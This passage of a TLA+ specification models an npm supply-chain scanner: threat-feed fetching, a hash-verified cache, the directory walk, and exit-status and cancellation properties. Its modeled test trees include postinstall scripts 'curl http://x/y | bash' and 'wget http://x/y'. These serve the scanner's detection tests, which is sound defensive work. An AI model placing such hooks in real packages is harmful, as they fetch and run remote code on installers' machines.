         /\ fallback \in [Sources -> UNION { FallbackFiles(s) : s \in Sources }]
         /\ \A s \in Sources :
              fallback[s] \in (IF s = v THEN FallbackFiles(s)
                               ELSE {NoFile} \cup { File("ok", d) : d \in Bodies(s) \ {EmptyFeed} })
    /\ net = [s \in Sources |-> NotCalled]
    /\ sent = {}
    /\ feedData = [s \in Sources |-> Unset]
    /\ clock = 1
    /\ saved = [s \in Sources |-> NeverSaved]

NetEvent(s) ==
    \/ NetTimeout(s)
    \/ NetError(s)
    \/ \E status \in StatusKinds : NetResponse(s, status)
    \/ \E body \in Bodies(s), how \in SaveOutcomes : NetEnd(s, body, how)
    \/ NetTooLarge(s)
    \/ NetAbort(s)

NextFetch ==
    \/ \E s \in Sources : FetchCall(s)
    \/ \E s \in Sources : NetEvent(s)
    \/ \E s \in Sources : AwaitFetch(s)
    \/ MergeFeeds

SpecFetch == InitFetch /\ [][NextFetch]_vars

\* one run of fetchThreats with no cache entry, with or without fallback
\* files; the event loop runs every callback that is due: a step that can be
\* taken is taken
InitSettle ==
    /\ IdleScan
    /\ pc = "fetch"
    /\ args \in FetchCommandLines
    /\ cache = [s \in Sources |-> NoEntry]
    /\ fallback \in { [s \in Sources |-> NoFile],
                      [s \in Sources |-> File("ok", CHOOSE d \in Bodies(s) : FeedTruthy(d))] }
    /\ net = [s \in Sources |-> NotCalled]
    /\ sent = {}
    /\ feedData = [s \in Sources |-> Unset]
    /\ clock = 1
    /\ saved = [s \in Sources |-> NeverSaved]
SpecSettle == InitSettle /\ [][NextFetch]_vars /\ WF_vars(NextFetch)

\* ------------------------------------------------------------------------
\* Several runs on one machine: the cache between runs
\* ------------------------------------------------------------------------
MaxRuns == 2

\* the next invocation of the scanner: a new process, the same disk
NewRun(argv) ==
    /\ pc \in {"scan", "stopped"}
    /\ clock < MaxRuns
    /\ pc' = "fetch"
    /\ clock' = clock + 1
    /\ args' = argv
    /\ net' = [s \in Sources |-> NotCalled]
    /\ sent' = {}
    /\ feedData' = [s \in Sources |-> Unset]
    /\ badPackages' = [n \in {} |-> {}]
    /\ UNCHANGED <<fs, detectedIssues, scanStats, isShuttingDown, call, env, exitCode,
                   cache, fallback, saved, walkVars, outVars>>

\* between two runs the cached payload of a source is altered, the hash file
\* left as it is
Tamper(s, d) ==
    /\ pc = "scan"
    /\ clock < MaxRuns
    /\ cache[s].payload.st = "ok"
    /\ d # cache[s].payload.data
    /\ saved[s].altered = 0
    /\ cache' = [cache EXCEPT ![s].payload = File("ok", d)]
    /\ saved' = [saved EXCEPT ![s].altered = clock]
    /\ UNCHANGED <<fs, badPackages, detectedIssues, scanStats, isShuttingDown, call, pc,
                   args, env, exitCode, fallback, net, sent, feedData, clock,
                   walkVars, outVars>>

\* between two runs more than CACHE_TIMEOUT_MS pass
Expire(s) ==
    /\ pc = "scan"
    /\ clock < MaxRuns
    /\ cache[s].fresh
    /\ cache' = [cache EXCEPT ![s].fresh = FALSE]
    /\ saved' = [saved EXCEPT ![s].expired = clock]
    /\ UNCHANGED <<fs, badPackages, detectedIssues, scanStats, isShuttingDown, call, pc,
                   args, env, exitCode, fallback, net, sent, feedData, clock,
                   walkVars, outVars>>

\* saveToCache cut short: the process stops at one of its steps.
\*   temp:    before or within writeFileSync(tempFile, ...): the temp file has
\*            its own name, the entry is as it was
\*   renamed: after renameSync(tempFile, validated), before the hash file is
\*            opened: the new payload, the hash file as it was
\*   hash:    within writeFileSync(hashFile, ...): the new payload, the hash
\*            file truncated or written in part
CrashSteps == {"temp", "renamed", "hash"}
cutHash(content) == [cut |-> content]
saveStopped(c, content, step) ==
    CASE step = "temp" -> c
      [] step = "renamed" -> [c EXCEPT !.payload = File("ok", content), !.fresh = TRUE]
      [] OTHER -> CacheEntry(File("ok", content), TRUE,
                             [st |-> "ok", data |-> cutHash(content)])

\* res.on('end') of a 2xx response, the process stopped within saveToCache
Crash(s, body, step) ==
    /\ pc = "fetch"
    /\ clock < MaxRuns
    /\ net[s].phase = "body_2xx"
    /\ cache' = [cache EXCEPT ![s] = saveStopped(@, body, step)]
    /\ saved' = [saved EXCEPT ![s] = [run |-> clock, data |-> body, how |-> step,
                                      altered |-> 0, expired |-> 0]]
    /\ pc' = "stopped"
    /\ UNCHANGED <<fs, badPackages, detectedIssues, scanStats, isShuttingDown, call,
                   args, env, exitCode, fallback, net, sent, feedData, clock,
                   walkVars, outVars>>

\* the entry an earlier run left and the TTL has passed for: payload and hash
\* file written in full
OldEntry(s) == CacheEntry(File("ok", CHOOSE d \in Payloads(s) \ Bodies(s) : TRUE), FALSE,
                          [st |-> "ok",
                           data |-> computeHash(CHOOSE d \in Payloads(s) \ Bodies(s) : TRUE)])

InitCache ==
    /\ IdleScan
    /\ pc = "fetch"
    /\ args = <<"proj">>
    /\ fallback \in { [s \in Sources |-> NoFile],
                      [s \in Sources |-> File("ok", CHOOSE d \in Bodies(s) : FeedTruthy(d))] }
    /\ cache \in { [s \in Sources |-> NoEntry] }
                 \cup (IF fallback["wiz"] # NoFile THEN {}
                       ELSE { [s \in Sources |-> IF s = "wiz" THEN OldEntry(s) ELSE NoEntry] })
    /\ net = [s \in Sources |-> NotCalled]
    /\ sent = {}
    /\ feedData = [s \in Sources |-> Unset]
    /\ clock = 1
    /\ saved = [s \in Sources |-> NeverSaved]

NextCache ==
    \/ NextFetch
    \/ \E argv \in FetchCommandLines : NewRun(argv)
    \/ \E s \in Sources : \E d \in Payloads(s) : Tamper(s, d)
    \/ \E s \in Sources : Expire(s)
    \/ \E s \in Sources : \E body \in Bodies(s), step \in CrashSteps : Crash(s, body, step)

SpecCache == InitCache /\ [][NextCache]_vars

\* ------------------------------------------------------------------------
\* Properties of the feed cache and of the fetches
\* ------------------------------------------------------------------------
Called(s) == net[s].phase # "notcalled"
Requested(s) == Url(s).id \in sent
\* an earlier run saved a payload for s (both writes done), and this run,
\* started without --no-cache, has called the fetch of s
SavedEarlier(s) ==
    /\ saved[s].run >= 1
    /\ saved[s].run < clock
    /\ saved[s].how = "ok"
    /\ ~noCache(args)
    /\ Called(s)
\* the saved payload was altered, or outlived the TTL, after an earlier run
\* and before this one (altered, expired: the run after which it happened)
AlteredSince(s) == saved[s].altered # 0 /\ saved[s].altered < clock
ExpiredSince(s) == saved[s].expired # 0 /\ saved[s].expired < clock
ServedFromCache(s) ==
    /\ net[s].status = "fulfilled"
    /\ net[s].via = "cache"
    /\ net[s].value = saved[s].data
    /\ ~Requested(s)
Refetched(s) == net[s].via # "cache" /\ Requested(s)

\* C6 as claimed: a payload saved after a successful fetch is served again,
\* identical and without a request, by a fetch made before the TTL expires,
\* and an entry altered since is not served but fetched again.
C6_RoundTripAnyPayload ==
    \A s \in Sources :
        SavedEarlier(s) =>
            /\ (~AlteredSince(s) /\ ~ExpiredSince(s)) => ServedFromCache(s)
            /\ AlteredSince(s) => Refetched(s)

\* C6: a non-empty payload saved after a successful fetch is served again,
\* identical and without a request, by a fetch made before the TTL expires;
\* an entry whose payload was altered since (its hash no longer the stored
\* one) is not served but fetched again.
C6_RoundTrip ==
    \A s \in Sources :
        SavedEarlier(s) =>
            /\ (~AlteredSince(s) /\ ~ExpiredSince(s) /\ FeedTruthy(saved[s].data))
                  => ServedFromCache(s)
            /\ AlteredSince(s) => Refetched(s)

C6_Witness ==
    \E s \in Sources :
        /\ SavedEarlier(s) /\ ~AlteredSince(s) /\ ~ExpiredSince(s)
        /\ FeedTruthy(saved[s].data)
        /\ ServedFromCache(s)

\* the entry of s is integrity-verified: the hash of the payload is the one
\* recorded in the hash file
EntryVerified(c) ==
    /\ c.payload.st = "ok"
    /\ c.hash.st = "ok"
    /\ computeHash(c.payload.data) = c.hash.data

\* C7 as claimed: cached content is returned only for an entry that is younger
\* than the TTL and whose payload hashes to the recorded hash; in every other
\* state of the two files (a missing hash file among them) it is not returned
\* and the request is made.
C7_OnlyFreshAndVerified ==
    \A s \in Sources :
        /\ net[s].via = "cache" => (cache[s].fresh /\ EntryVerified(cache[s]))
        /\ (Called(s) /\ net[s].via # "cache") => (net[s].phase = "closed" \/ Requested(s))

\* the state C7 fails in: a fresh payload without a hash file is served
C7_Witness ==
    \E s \in Sources :
        /\ net[s].via = "cache"
        /\ cache[s].hash.st = "absent"

FallbackOutcomes == {"timeout", "error", "status", "redirect"}
SourceUrls == { Url(s).id : s \in Sources }

Contribution(d) ==
    CASE d = CsvA -> [n \in {"left-pad"} |-> {"1.2.3", "2.0.0", "1.2.4"}]
      [] d = CsvB -> [n \in {"evil"} |-> {"6.6.6"}]
      [] d = JsonA -> [n \in {"left-pad", "@scope/evil"} |->
                          IF n = "left-pad" THEN {"1.2.3"} ELSE {"*"}]
      [] d = JsonB -> [n \in {"evil", "ghost"} |->
                          IF n = "evil" THEN {"6.6.7"} ELSE {"*"}]
      [] OTHER -> [n \in {} |-> {}]
Succeeded(s) == feedData[s].status = "fulfilled"
VersionsFrom(s, n) ==
    IF Succeeded(s) /\ n \in DOMAIN Contribution(feedData[s].value)
    THEN Contribution(feedData[s].value)[n] ELSE {}
NamesFrom(s) == IF Succeeded(s) THEN DOMAIN Contribution(feedData[s].value) ELSE {}

C10_SecondStartedBeforeFirstSettled ==
    [][(~Called("json") /\ net'["json"].phase # "notcalled")
          => (Called("wiz") /\ net["wiz"].status = "pending")]_vars

\* ------------------------------------------------------------------------
\* A whole run: the inputs explored
\* ------------------------------------------------------------------------
MaxScans == 2

CommandLines ==
    { <<>>, <<"proj">>, <<"nowhere">>, <<"<NUL>">>,
      <<"proj", "--fail-on=critical">>, <<"proj", "--fail-on=warning">>,
      <<"proj", "--fail-on=OFF">>, <<"proj", "--fail-on=high">>,
      <<"proj", "--fail-on", "warning">>, <<"--fail-on", "warning">>,
      <<"proj", "--fail-on">>, <<"--fail-on=warning", "--no-report">>,
      <<"proj", "--no-upload", "--fail-on", "off">>,
      <<"nowhere", "--fail-on=OFF">>, <<"--help", "--fail-on=warning">> }

\* a tree given by its files: the directories above them are added
TreeFrom(files) ==
    LET dirs == UNION { { SubSeq(f, 1, i) : i \in 1..(Len(f) - 1) } : f \in DOMAIN files }
    IN  [p \in dirs \cup DOMAIN files |-> IF p \in DOMAIN files THEN files[p] ELSE DirNode]
OneFile(path, node) == [f \in {path} |-> node]
TwoFiles(p1, n1, p2, n2) == [f \in {p1, p2} |-> IF f = p1 THEN n1 ELSE n2]

NpmLockA ==
    NpmLock(TRUE,
            << LockEntry("", JsStr("1.0.0")),
               LockEntry("node_modules/left-pad", JsStr("1.2.3")),
               LockEntry("node_modules/@scope/evil", JsStr("3.0.0")) >>,
            << LockEntry("left-pad", JsStr("9.9.9")), LockEntry("other", JsUndef) >>)
YarnLockA ==
    YarnLock(<< YarnLine("decl", "left-pad"), YarnLine("other", "resolved"),
                YarnLine("version", "2.0.0"),
                YarnLine("decl", "@scope/evil"), YarnLine("version", "3.0.0") >>)
InModules(name) == <<"proj", "node_modules">> \o name
MainTrees ==
    { TreeFrom(TwoFiles(<<"proj", "package-lock.json">>, FileNode(100, NpmLockA),
                        InModules(<<"left-pad", "package.json">>),
                        FileNode(100, Manifest(JsStr("1.2.3"),
                                               ScriptsObj([k \in {"postinstall"} |->
                                                   CmdStr(<<"curl", "http://x/y", "|", "bash">>)]))))),
      TreeFrom(TwoFiles(<<"proj", "yarn.lock">>, FileNode(100, YarnLockA),
                        InModules(<<"@scope", "evil", "package.json">>),
                        FileNode(100, Manifest(JsStr(""), NoScripts)))),
      TreeFrom(TwoFiles(InModules(<<"left-pad", "README.md">>), FileNode(100, EmptyBody),
                        InModules(<<"other", "package.json">>),
                        FileNode(100, Manifest(JsStr("1.0.0"),
                                               ScriptsObj([k \in {"postinstall"} |->
                                                   CmdStr(<<"wget", "http://x/y">>)]))))),
      TreeFrom(TwoFiles(InModules(<<"other", "setup_bun.js">>), FileNode(100, EmptyBody),
                        InModules(<<"other", "package.json">>), GoodManifest)),
      TreeFrom(TwoFiles(InModules(<<"other", "contents.json">>),
                        FileNode(100, JsonDoc("object", {"aws"}, {})),
                        InModules(<<"@scope", "evil", "package.json">>),
                        FileNode(100, Manifest(JsStr("3.0.0"), NoScripts)))),
      TreeFrom(OneFile(InModules(<<"left-pad", "package.json">>),
                       FileNode(100, Manifest(JsStr("9.9.9"), NoScripts)))) }

Environments ==
    { Env(TRUE, "https", TRUE), Env(TRUE, "unset", TRUE), Env(TRUE, "http", FALSE),
      Env(FALSE, "https", TRUE), Env(FALSE, "unset", FALSE),
      [Env(TRUE, "https", TRUE) EXCEPT !.identity = Bob] }

VerifiedEntry(d) == CacheEntry(File("ok", d), TRUE, HashFile("ok", d))

Init ==
    /\ args \in CommandLines
    /\ fs \in MainTrees
    /\ env \in Environments
    /\ badPackages = [n \in {} |-> {}]
    /\ detectedIssues = <<>>
    /\ scanStats = ZeroStats
    /\ isShuttingDown = FALSE
    /\ call = NoCall
    /\ pc = "start"
    /\ exitCode = -1
    /\ IdleWalk
    /\ IdleOut
    /\ cache \in { [s \in Sources |-> VerifiedEntry(IF s = "wiz" THEN CsvA ELSE JsonA)],
                   [s \in Sources |-> IF s = "wiz" THEN VerifiedEntry(CsvA) ELSE NoEntry] }
    /\ fallback = [s \in Sources |-> NoFile]
    /\ net = [s \in Sources |-> NotCalled]
    /\ sent = {}
    /\ feedData = [s \in Sources |-> Unset]
    /\ clock = 1
    /\ saved = [s \in Sources |-> NeverSaved]

Scan ==
    /\ scanStats.filesChecked + scanStats.lockfilesChecked < MaxScans
    /\ \/ \E d \in PackageDirs : ScanPackage(d)
       \/ \E p \in DOMAIN fs : ScanLockfile(p)

Next ==
    \/ Start
    \/ NextFetch
    \/ Scan
    \/ Summarise
    \/ UploadSettled
    \/ ExitLogic
    \/ Signal
    \/ Interrupt

Spec == Init /\ [][Next]_vars

\* ------------------------------------------------------------------------
\* Properties of the exit status
\* ------------------------------------------------------------------------
Exited == pc \in {"help", "aborted", "interrupted", "crashed", "done"}
CriticalKinds == {"FORENSIC_MATCH", "CRITICAL_SCRIPT", "VERSION_MATCH", "WILDCARD_MATCH",
                  "LOCKFILE_HIT", "WILDCARD_LOCK_HIT"}
WarningKinds == CriticalKinds \cup {"SCRIPT_WARNING", "GHOST_PACKAGE", "CORRUPT_PACKAGE"}
KindSet(threshold) ==
    CASE threshold = "critical" -> CriticalKinds
      [] threshold = "warning" -> WarningKinds
      [] OTHER -> {}
LedgerHolds(kinds) == \E i \in 1..Len(detectedIssues) : detectedIssues[i].type \in kinds
\* what the contract asks of the status of a run
AsContracted ==
    IF failOnGiven(args)
    THEN IF LedgerHolds(KindSet(failOn(args))) THEN exitCode # 0 ELSE exitCode = 0
    ELSE exitCode = 0

WalkCommandLines ==
    { <<"proj">>, <<"link">>, <<"proj", "--depth=0">>, <<"proj", "--depth=1">>,
      <<"proj", "--depth=2">>, <<"proj", "--depth=10">>, <<"proj", "--depth=11">>,
      <<"proj", "--depth=deep">>, <<"proj", "--depth=">>, <<"proj", "--depth", "2">>,
      <<"proj", "--full-scan">>, <<"proj", "--full-scan", "--depth=10">>,
      <<>>, <<"--depth=2">>, <<"--full-scan">>, <<"link4">> }

\* a tree given by the nodes at some paths: the directories above are added
NodesAt(pairs) ==
    TreeFrom([p \in { pairs[i][1] : i \in 1..Len(pairs) } |->
                 pairs[CHOOSE i \in 1..Len(pairs) : pairs[i][1] = p][2]])
YarnEntry(pkg, ver) == YarnLock(<< YarnLine("decl", pkg), YarnLine("version", ver) >>)
RECURSIVE Chain(_, _)
Chain(p, n) == IF n = 0 THEN p ELSE Chain(Append(p, "a"), n - 1)
ChainLen == 12
RootLink == << <<"link">>, LinkTo(<<"proj">>) >>

\* what `npm root -g` prints, and the cache of npm in the home directory
npmGlobalRoot == <<"usr", "lib", "node_modules">>
npmCache == <<"home", ".npm">>

WalkTrees ==
    \* a project with a lockfile, installed packages and a subproject
    { NodesAt(<< RootLink,
                 << <<"proj", "package.json">>, GoodManifest >>,
                 << <<"proj", "yarn.lock">>, FileNode(100, YarnEntry("left-pad", v)) >>,
                 << <<"proj", ".git">>, DirNode >>,
                 << <<"proj", "_build">>, DirNode >>,
                 << <<"proj", "loop">>, LinkTo(<<"proj">>) >>,
                 << <<"proj", "a", "package-lock.json">>, FileNode(100, NpmLockA) >>,
                 << <<"proj", "a", "a", "a">>, DirNode >>,
                 << InModules(<<".bin">>), DirNode >>,
                 << InModules(<<"left-pad", "package.json">>), GoodManifest >>,
                 << InModules(<<"left-pad", "yarn.lock">>),
                    FileNode(100, YarnEntry("left-pad", "1.2.3")) >>,
                 << InModules(<<"other">>), DirNode >>,
                 << InModules(<<"@scope", "evil", "package.json">>), GoodManifest >>,
                 << InModules(<<"@scope", "left-pad", "package.json">>), GoodManifest >> >>) :
        v \in {"1.2.3", "1.2.4"} }
    \* a project on a machine with globally installed packages and an npm
    \* cache, reached also through a chain of four links
    \cup { NodesAt(<< RootLink,
                      << <<"link2">>, LinkTo(<<"link">>) >>,
                      << <<"link3">>, LinkTo(<<"link2">>) >>,
                      << <<"link4">>, LinkTo(<<"link3">>) >>,
                      << <<"proj", "package.json">>, GoodManifest >>,
                      << <<"proj", "yarn.lock">>,
                         FileNode(100, YarnLock(<< YarnLine("decl", "left-pad"),
                                                   YarnLine("version", "1.2.4"),
                                                   YarnLine("decl", "@scope/evil"),
                                                   YarnLine("version", "3.0.0") >>)) >>,
                      << InModules(<<"left-pad", "package.json">>), GoodManifest >>,
                      << Append(npmGlobalRoot, "left-pad") \o <<"package.json">>,
                         GoodManifest >>,
                      << Append(npmCache, "a"), DirNode >> >>) }
    \* an installed package that is a link to a directory outside the project
    \cup { NodesAt(<< RootLink,
                      << InModules(<<"evil">>), LinkTo(<<"outside">>) >>,
                      << InModules(<<"@scope">>), LinkTo(<<"outside">>) >>,
                      << <<"outside", "package.json">>, GoodManifest >>,
                      << <<"outside", "bundle.js">>,
                         FileNode(100, TextDoc({"hello"}, {"hello"})) >> >>) }
    \* a chain of directories deeper than the hard limit
    \cup { NodesAt(<< RootLink, << Chain(<<"proj">>, ChainLen), DirNode >> >>) }
    \* directories that cannot be listed
    \cup { NodesAt(<< RootLink,
                      << <<"proj", "a">>, UnreadableDir >>,
                      << <<"proj", "other", "node_modules">>, UnreadableDir >>,
                      << InModules(<<"@scope">>), FileNode(100, EmptyBody) >>,
                      << InModules(<<"left-pad">>), DirNode >> >>) }
    \* packages named after a member of Object.prototype
    \cup { NodesAt(<< RootLink,
                      << InModules(<<"constructor">>), DirNode >>,
                      << <<"proj", "a", "yarn.lock">>,
                         FileNode(100, YarnEntry("constructor", "1.0.0")) >>,
                      << <<"proj", "other", "package.json">>, GoodManifest >> >>),
           NodesAt(<< RootLink,
                      << InModules(<<"constructor", "package.json">>), GoodManifest >>,
                      << InModules(<<"constructor", "yarn.lock">>),
                         FileNode(100, YarnEntry("constructor", "1.0.0")) >> >>) }

WalkDenylists ==
    { [n \in {} |-> {}], [n \in {"left-pad"} |-> {"1.2.3"}],
      [n \in {"left-pad", "@scope/evil"} |-> IF n = "left-pad" THEN {"*"} ELSE {"3.0.0"}] }

\* the directories counted before the walk of the paths below: a run that
\* is not limited to the project walks the system paths first
StartCounts == {0, MAX_DIRECTORIES_SCANNED - 2, MAX_DIRECTORIES_SCANNED}
\* ... and the packages counted there
StartPackages == {0, MAX_PACKAGES_SCANNED - 1, MAX_PACKAGES_SCANNED}
scanRoot == validatePath(inputPath(args), NoBase)

\* getSearchPaths(): the candidates that exist
getSearchPaths == SelectSeq(<< npmGlobalRoot, npmCache >>, Exists)
\* the scanDir calls of main: the project alone, or the system paths and
\* then the project
scanCalls(argv) ==
    IF isProjectOnlyMode(argv) THEN << ScanDirCall(scanRoot, 0) >>
    ELSE [i \in 1..Len(getSearchPaths) |-> ScanDirCall(getSearchPaths[i], 0)]
            \o << ScanDirCall(scanRoot, 0) >>

InitWalk ==
    /\ args \in WalkCommandLines
    /\ fs \in WalkTrees
    /\ scanRoot # NullPath /\ Exists(scanRoot)
    /\ badPackages \in WalkDenylists
    /\ env \in {QuietEnv, Env(TRUE, "unset", FALSE)}
    /\ \E n \in StartCounts, k \in StartPackages :
          /\ (n = 0 /\ k = 0) \/ ~isProjectOnlyMode(args)
          /\ n = 0 \/ k = 0
          /\ scanStats = [ZeroStats EXCEPT !.directoriesScanned = n, !.packagesScanned = k]
    /\ detectedIssues = <<>>
    /\ isShuttingDown = FALSE
    /\ call = NoCall
    /\ pc = "scan"
    /\ exitCode = -1
    /\ stack = scanCalls(args)
    /\ touched = {}
    /\ visited = {}
    /\ warnings = NoWarnings
    /\ IdleOut
    /\ IdleFetch

NextWalk ==
    \/ ScanDir
    \/ ScanDirEntry
    \/ ModulesEntry
    \/ ScopeEntry
    \/ PackageLockfile
    \/ Summarise
    \/ ExitLogic

SpecWalk == InitWalk /\ [][NextWalk]_vars

\* ------------------------------------------------------------------------
\* Properties of the walk
\* ------------------------------------------------------------------------
\* the real path of p lies in the directory the scan was started on
WithinRoot(p) == IsPrefix(realpath(scanRoot), realpath(p))
Reads == { t \in touched : t.op \in {"read", "readdir"} /\ Exists(t.path) }

\* C11 as claimed: in a scan of the project directory alone, every file that
\* is read and every directory that is listed has its real path in the real
\* path of the scan root, also below installed packages that are links.
C11_Containment ==
    isProjectOnlyMode(args) => \A t \in Reads : WithinRoot(t.path)

\* Math.min(maxDepth, CONFIG.MAX_SCAN_DEPTH) of the run
DepthLimit == Min(maxDepth(args), MAX_SCAN_DEPTH)

\* C12: no directory is processed by scanDir at a depth above
\* min(maxDepth, 10), whatever the tree (chains deeper than the limit, links
\* that lead back to the root); main calls scanDir with depth 0, and scanDir
\* is called again only from its entry loop, with the depth of the loop plus
\* one.
C12_DepthBound ==
    /\ [](\A v \in visited : v.depth <= DepthLimit)
    /\ [][(stack' # <<>> /\ Head(stack').op = "scanDir" /\ stack' # Tail(stack))
             => /\ stack # <<>>
                /\ Head(stack).op = "entries"
                /\ Head(stack').depth = Head(stack).depth + 1]_vars
    /\ [](\A i \in 1..Len(stack) :
            (stack[i].op = "scanDir" /\ stack[i].depth = 0)
               => \E j \in 1..Len(scanCalls(args)) : stack[i] = scanCalls(args)[j])

\* the walk is over, it processed a directory at the limit and left the
\* directory below it alone
C12_Witness ==
    /\ stack = <<>>
    /\ DepthLimit \in {2, MAX_SCAN_DEPTH}
    /\ \E v \in visited :
          /\ v.depth = DepthLimit
          /\ Append(v.path, "a") \in DOMAIN fs
          /\ fs[Append(v.path, "a")].kind = "dir"
          /\ \A u \in visited : u.path # Append(v.path, "a")

\* C13 as claimed: every call of the file system (lstat, stat, readdir, read,
\* realpath) is made on a path that validatePath had accepted before.
C13_ValidateBeforeTouch == \A t \in touched : t.ok

\* the manifest of the package in `call` and what reading it gave
ManifestError == safeReadFile(ManifestPath, MAX_FILE_SIZE_BYTES).error
ManifestFailed ==
    /\ Checked
    /\ \/ ManifestError # "none"
       \/ NodeAt(ManifestPath).size = 0
       \/ NodeAt(ManifestPath).body.json # "object"
       \/ ~Truthy(NodeAt(ManifestPath).body.version)
       \/ NodeAt(ManifestPath).body.version.t # "string"

\* C14 as claimed: when the manifest of a package cannot be read or parsed or
\* has no string version, checkPackageJson appends no GHOST_PACKAGE and no
\* CORRUPT_PACKAGE if the package name is not a key of the denylist, exactly
\* one GHOST_PACKAGE if it is a key and the manifest is missing, exactly one
\* CORRUPT_PACKAGE if it is a key and the failure is another one; the
\* failure never leaves checkPackageJson.
C14_ManifestFailure ==
    /\ call.op = "checkPackageJson" => ~call.threw
    /\ ManifestFailed =>
          LET ghosts == Len(AppendedOf({"GHOST_PACKAGE"}))
              corrupts == Len(AppendedOf({"CORRUPT_PACKAGE"}))
          IN  IF call.name \notin DOMAIN badPackages THEN ghosts = 0 /\ corrupts = 0
              ELSE IF ManifestError = "ENOENT" THEN ghosts = 1 /\ corrupts = 0
              ELSE ghosts = 0 /\ corrupts = 1

\* C15 as claimed: the payload uploadReport sends is the same whoever the
\* operator is: it is the payload of the run of an operator with another git
\* name, git e-mail and npm user on the same findings.
C15_PayloadWithoutIdentity ==
    uploaded # NoPayload =>
        \A id \in {Ann, Bob} :
            uploaded = uploadPayload(generateReport(UserInfo(id), FALSE, detectedIssues,
                                                    scanStats),
                                     UserInfo(id), detectedIssues)

\* the process has ended: by process.exit, or by an exception out of main
Ended == pc \in {"interrupted", "crashed"} \/ (pc = "done" /\ failOnGiven(args))

\* C16 as claimed: a process that received SIGINT or SIGTERM after its
\* handlers were installed ends with status 130, after a partial report
\* with a row for every issue of the ledger was written.
C16_InterruptExit ==
    (Ended /\ pending) =>
        /\ exitCode = 130
        /\ report.kind = "PARTIAL"
        /\ Len(report.rows) = Len(detectedIssues)

\* C17 as claimed: no error raised while the tree is scanned ends the
\* process (the report file is writable in these runs): the walk comes to
\* its end and generateReport is called.
C17_ScanCompletes == pc # "crashed"

\* C18 as claimed: checkLockfile never ends with an exception, whether it is
\* called from the entry loop of scanDir or from checkPackageLockfiles.
C18_LockfileErrorsSwallowed == call.op = "checkLockfile" => ~call.threw

\* the yarn.lock that the check in `call` read
YarnChecked ==
    /\ call.op = "checkLockfile"
    /\ basename(call.path) = "yarn.lock"
    /\ safeReadFile(call.path, MAX_LOCKFILE_SIZE_BYTES).error = "none"
YarnIssues ==
    SelectSeq(detectedIssues,
              LAMBDA i : i.details \in { <<"Yarn Lock match (Strict)">>,
                                         <<"Yarn Lock match (Wildcard)">> })

\* C19: for a yarn.lock of one entry, left-pad with version V, and a
\* denylist of left-pad 1.2.3, checkLockfile appends exactly one issue, a
\* LOCKFILE_HIT of left-pad 1.2.3, when V = 1.2.3 and none otherwise; and
\* every yarn hit of the ledger names a denylisted package whose set holds
\* the recorded version or the wildcard.
C19_YarnMatching ==
    /\ \A V \in {"1.2.3", "1.2.4"} :
          (/\ YarnChecked
           /\ LockOf(NodeAt(call.path).body) = YarnEntry("left-pad", V)
           /\ badPackages = [n \in {"left-pad"} |-> {"1.2.3"}])
          => IF V = "1.2.3"
             THEN /\ Len(Appended) = 1
                  /\ Appended[1].type = "LOCKFILE_HIT"
                  /\ Appended[1].package = "left-pad"
                  /\ Appended[1].version = "1.2.3"
             ELSE Appended = <<>>
    /\ \A k \in 1..Len(YarnIssues) :
          /\ YarnIssues[k].package \in DOMAIN badPackages
          /\ \/ YarnIssues[k].version \in badPackages[YarnIssues[k].package]
             \/ "*" \in badPackages[YarnIssues[k].package]
          /\ YarnIssues[k].type = "LOCKFILE_HIT"
                => "*" \notin badPackages[YarnIssues[k].package]

C19_Witness ==
    /\ YarnChecked
    /\ LockOf(NodeAt(call.path).body) = YarnEntry("left-pad", "1.2.3")
    /\ badPackages = [n \in {"left-pad"} |-> {"1.2.3"}]
    /\ Len(Appended) = 1
    /\ Appended[1].type = "LOCKFILE_HIT"

\* C20: scanStats.directoriesScanned never passes 100,000, and a call of
\* scanDir made when the counter is at the ceiling returns without a call
\* of the file system and leaves the counters and the ledger as they are.
C20_DirectoryCeiling ==
    /\ [](scanStats.directoriesScanned <= MAX_DIRECTORIES_SCANNED)
    /\ [][(Top("scanDir") /\ scanStats.directoriesScanned >= MAX_DIRECTORIES_SCANNED)
             => /\ UNCHANGED <<scanStats, detectedIssues, touched, visited>>
                /\ stack' = Tail(stack)]_vars

\* the walk is over: the counter came to the ceiling on the way and a
\* directory of the tree was left alone for it
C20_Witness ==
    /\ stack = <<>>
    /\ scanStats.directoriesScanned = MAX_DIRECTORIES_SCANNED
    /\ Cardinality(visited) = 2
    /\ DepthLimit >= 2
    /\ Chain(<<"proj">>, 2) \in DOMAIN fs

\* a step of one of the loops over the packages of node_modules
PackageStep == pc = "scan" /\ stack # <<>> /\ Head(stack).op \in {"modules", "scope"}

\* C21 as claimed: scanStats.packagesScanned never passes 50,000, and once
\* the counter is at the ceiling no package is checked any more, be it an
\* entry of node_modules or of an @scope directory: the ledger, the
\* counters and the file system calls stay as they are.
C21_PackageCeiling ==
    /\ [](scanStats.packagesScanned <= MAX_PACKAGES_SCANNED)
    /\ [][(PackageStep /\ scanStats.packagesScanned >= MAX_PACKAGES_SCANNED)
             => UNCHANGED <<scanStats, detectedIssues, touched>>]_vars

\* where the code reads isShuttingDown before it goes on: at the entry of
\* scanDir (line 926), at the top of its entry loop (line 972) and at the
\* top of the loop of scanNodeModules (line 995); the loop over the
\* packages of a scope (lines 1009-1014) has no such test
PollsFlag(op) == op \in {"scanDir", "entries", "modules"}

\* C22 as claimed: every scanDir call and every turn of the entry loop, of
\* the loop over the packages of node_modules and of the loop over the
\* packages of an @scope directory begins with a test of the shutdown flag,
\* and with the flag set nothing is read, checked or appended any more.
C22_CooperativeCancellation ==
    /\ [][(pc = "scan" /\ stack # <<>> /\ stack' # stack
              /\ Head(stack).op \in {"scanDir", "entries", "modules", "scope"})
             => PollsFlag(Head(stack).op)]_vars
    /\ [][isShuttingDown => UNCHANGED <<touched, visited, detectedIssues, scanStats>>]_vars

\* the paths of the scanDir calls of main that are still to come
RootCalls ==
    LET calls == SelectSeq(stack, LAMBDA f : f.op = "scanDir" /\ f.depth = 0)
    IN  [i \in 1..Len(calls) |-> calls[i].path]
IsSuffix(s, t) == Len(s) <= Len(t) /\ s = SubSeq(t, Len(t) - Len(s) + 1, Len(t))

\* C23 as claimed: without --full-scan, with a path argument or with none,
\* main calls scanDir on the project path alone; with --full-scan it calls
\* scanDir on the system paths and then on the project path.
C23_SystemRootsOnlyOnFullScan ==
    pc = "scan" =>
        IsSuffix(RootCalls, IF isFullScan(args) THEN Append(getSearchPaths, scanRoot)
                            ELSE << scanRoot >>)

\* the scan path of the run fails validation or does not exist
BadScanPath ==
    \/ validatePath(inputPath(args), NoBase) = NullPath
    \/ ~Exists(validatePath(inputPath(args), NoBase))

